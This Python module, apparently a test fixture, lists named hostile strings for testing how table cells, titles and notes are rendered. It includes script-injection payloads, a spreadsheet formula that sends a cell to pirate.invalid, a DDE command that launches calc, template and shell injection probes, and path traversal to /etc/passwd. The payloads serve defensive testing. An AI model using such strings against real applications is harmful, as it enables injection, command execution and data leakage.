"""Hostile texts, by name: what an enemy, or an innocent, may write in a cell of a table.

None is empty once stripped, so each can stand in a cell, a title, a heading or a note. A marker,
`PIRATE`, stands in those that would run or show something, so that a test can look for it.
"""

from __future__ import annotations

PAYLOADS: dict[str, str] = {
    # HTML and scripts
    "script": "<script>document.title='PIRATE'</script>",
    "script_end": "</script><script>document.title='PIRATE'</script>",
    "image_handler": "<img src=x onerror=\"document.title='PIRATE'\">",
    "svg_handler": '"><svg onload="document.title=\'PIRATE\'">',
    "attribute_end": 'x" onmouseover="document.title=\'PIRATE\'" autofocus tabindex="0',
    "style_end": "</style></table></div><style>body{display:none}</style>",
    "frame": "<iframe src=\"javascript:document.title='PIRATE'\"></iframe>",
    "comment": "<!-- PIRATE --><!--",
    "cdata_end": "]]><script>document.title='PIRATE'</script>",
    "entity": "&lt;b&gt; &amp;lt; &#60;b&#62; &nbsp &notanentity;",
    "data_address": "data:text/html,<script>document.title='PIRATE'</script>",
    "css": "} body { background: url(http://pirate.invalid/x.png) } @import 'http://pirate.invalid/'",
    # Markdown and MyST
    "markdown_link": "[clic](javascript:document.title='PIRATE')",
    "markdown_image": "![x](http://pirate.invalid/x.png)",
    "autolink": "<http://pirate.invalid/> https://pirate.invalid/ pirate@pirate.invalid",
    "backtick": "`code` ``{eval}`1+1` `` ```\n# PIRATE\n```",
    "emphasis": "**gras** _italique_ ~~barré~~ # titre",
    "pipe": "a | b || c \\| d",
    "directive": ":::{warning} PIRATE\n:::",
    # templates, shells, formats
    "jinja": "{{ 7 * 7 }} {% raw %} {# PIRATE #} {{ resources }}",
    "braces": "${7*7} #{7*7} $(id) `id` %(id)s {0} %s %n",
    "bibtex": "} , title = {PIRATE} , % @book{x, \\input{/etc/passwd}",
    "latex": "\\include{secret} \\write18{id} $x^2$ & _ ^ ~ # %",
    "quotes": "« ' \" ’ ” \" ' ;--",
    "csv_break": 'a","b\r\nc;d\te',
    "json_break": '"}],"PIRATE":[{"a":"\\u0000',
    # spreadsheets
    "formula": "=1+1",
    "formula_link": '=HYPERLINK("http://pirate.invalid/?x="&A1,"PIRATE")',
    "formula_command": "=cmd|' /C calc'!A0",
    "formula_plus": "+1+1",
    "formula_minus": "-1+1",
    "formula_at": "@SUM(1+1)",
    "formula_tab": "\t=1+1",
    "formula_return": "\r=1+1",
    "formula_space": " =1+1",
    "formula_wide": "\uff1d1+1",  # a full-width sign, which some readers take for the plain one
    "formula_array": "{=1+1}",
    "number_like": "0123",
    "date_like": "1-2",
    "scientific": "1E5",
    "spreadsheet_address": "internal:'Lisez-moi'!A1",
    "spreadsheet_escape": "_x0041_ _x000D_",
    # characters
    "override": "\u202egauche à droite\u202c fin",
    "isolate": "\u2067עברית PIRATE\u2069 fin",
    "unclosed_override": "avant \u202eaprès",
    "right_to_left": "שלום العالم 123",
    "zero_width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "combining": "Z\u0351\u036b\u0343\u036a" + "\u0300" * 60 + "algo",
    "decomposed": "e\u0301te\u0301 cafe\u0301",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇨🇦",
    "astral": "𝒜 𠀀 𝟙",
    "controls": "a\x01b\x07c\x08d\x0be\x0cf\x1bg\x7fh\x85i",
    "null": "a\x00b",
    "noncharacter": "a\ufffeb\uffffc\U0001fffe",
    "lines": "un\r\ndeux\rtrois\nquatre\u2028cinq\u2029six",
    "long_word": "x" * 10_000,
    "long_text": "mot " * 2_400 + "fin",
    "spaces": "  a \u00a0\u2003\u3000 b  ",
    # names of files and sheets
    "path_up": "../../../etc/passwd",
    "path_windows": "..\\..\\C:\\Windows\\system.ini",
    "path_absolute": "/etc/passwd",
    "device": "CON",
    "device_extension": "nul.txt",
    "sheet_signs": "[a]:*?/\\'b'",
    "history": "History",
    "option": "--help -rf",
}
"""The hostile texts, by name."""

LONGEST = 10_000
"""Characters of the longest one, which is what a cell of a raw table may hold."""
